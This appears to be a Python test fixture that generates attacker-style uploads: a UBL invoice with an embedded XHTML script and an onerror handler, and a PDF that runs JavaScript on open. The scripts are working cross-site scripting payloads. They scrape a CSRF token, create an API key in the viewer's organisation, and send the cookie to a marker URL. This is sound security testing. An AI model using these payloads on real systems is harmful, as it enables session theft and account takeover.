"""Files an attacker uploads: a UBL invoice that carries an XHTML <script>, a PDF that opens with JavaScript.

Both are genuine enough to be captured (the UBL becomes a ready invoice with a pay link); their scripts,
if a browser ever ran them on our origin, would read the viewer's CSRF token, create an API key in the
viewer's organisation and call `marker_url` (a server of the test's own that counts the hits)."""

from __future__ import annotations

from xml.sax.saxutils import escape

from tests.support.files import assemble_pdf

# Runs as the viewer: take the CSRF token from a page, create an API key, then tell the marker.
STEAL = """
(async function () {{
  try {{ fetch("{marker}/started", {{mode: "no-cors"}}); }} catch (e) {{}}
  document.title = "PWNED";
  const page = await (await fetch("/settings/api-keys", {{credentials: "include"}})).text();
  const token = (page.match(/name="csrf_token" value="([^"]+)"/) || [])[1] || "";
  const body = new URLSearchParams({{csrf_token: token, name: "stolen-by-{tag}"}});
  await fetch("/settings/api-keys", {{method: "POST", body: body, credentials: "include"}});
  fetch("{marker}/done?cookie=" + encodeURIComponent(document.cookie), {{mode: "no-cors"}});
}})();
"""


def steal_script(marker_url: str, tag: str) -> str:
    return STEAL.format(marker=marker_url, tag=tag)


def hostile_ubl(marker_url: str, *, number: str, tag: str = "xml") -> bytes:
    """A valid UBL 2.1 invoice (captured as ready) with an XHTML script element and an onload handler."""
    script = escape(steal_script(marker_url, tag))
    handler = escape(steal_script(marker_url, tag + "-onerror"), {'"': "&quot;"})
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
 xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
 xmlns:h="http://www.w3.org/1999/xhtml">
  <h:script>{script}</h:script>
  <h:img src="{marker_url}/img" onerror="{handler}"/>
  <cbc:CustomizationID>urn:cen.eu:en16931:2017</cbc:CustomizationID>
  <cbc:ID>{number}</cbc:ID>
  <cbc:IssueDate>2026-11-02</cbc:IssueDate>
  <cbc:DueDate>2026-12-02</cbc:DueDate>
  <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>
  <cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
  <cac:AccountingSupplierParty><cac:Party>
    <cac:PartyName><cbc:Name>Fournitures Pirates</cbc:Name></cac:PartyName>
    <cac:PartyLegalEntity><cbc:RegistrationName>Fournitures Pirates SAS</cbc:RegistrationName>
      <cbc:CompanyID schemeID="0002">732829320</cbc:CompanyID></cac:PartyLegalEntity>
  </cac:Party></cac:AccountingSupplierParty>
  <cac:AccountingCustomerParty><cac:Party>
    <cac:PartyName><cbc:Name>Boulangerie Martin</cbc:Name></cac:PartyName>
    <cac:PartyLegalEntity>
      <cbc:RegistrationName>Boulangerie Martin SARL</cbc:RegistrationName></cac:PartyLegalEntity>
  </cac:Party></cac:AccountingCustomerParty>
  <cac:TaxTotal><cbc:TaxAmount currencyID="EUR">20.00</cbc:TaxAmount></cac:TaxTotal>
  <cac:LegalMonetaryTotal>
    <cbc:LineExtensionAmount currencyID="EUR">100.00</cbc:LineExtensionAmount>
    <cbc:TaxExclusiveAmount currencyID="EUR">100.00</cbc:TaxExclusiveAmount>
    <cbc:TaxInclusiveAmount currencyID="EUR">120.00</cbc:TaxInclusiveAmount>
    <cbc:PayableAmount currencyID="EUR">120.00</cbc:PayableAmount>
  </cac:LegalMonetaryTotal>
  <cac:InvoiceLine>
    <cbc:ID>1</cbc:ID>
    <cbc:InvoicedQuantity unitCode="C62">1</cbc:InvoicedQuantity>
    <cbc:LineExtensionAmount currencyID="EUR">100.00</cbc:LineExtensionAmount>
    <cac:Item><cbc:Name>Farine</cbc:Name></cac:Item>
    <cac:Price><cbc:PriceAmount currencyID="EUR">100.00</cbc:PriceAmount></cac:Price>
  </cac:InvoiceLine>
</Invoice>
""".encode()


def javascript_pdf(marker_url: str, *, label: str) -> bytes:
    """A one-page PDF whose /OpenAction, page /AA and a link annotation run JavaScript: an alert, a launch
    of the marker URL, a form submission to it."""
    js = (
        f"app.alert('PWNED {label}'); app.launchURL('{marker_url}/pdf-launch', true); "
        f"this.submitForm('{marker_url}/pdf-submit');"
    )
    text = f"Facture piegee {label}".encode()
    content = b"BT /F1 24 Tf 72 720 Td (" + text + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R"
        b" /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O 5 0 R >>"
        b" /Annots [7 0 R] /Resources << /Font << /F1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Action /S /JavaScript /JS (" + js.encode() + b") >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A 5 0 R >>",
    ]
    return assemble_pdf(objects)
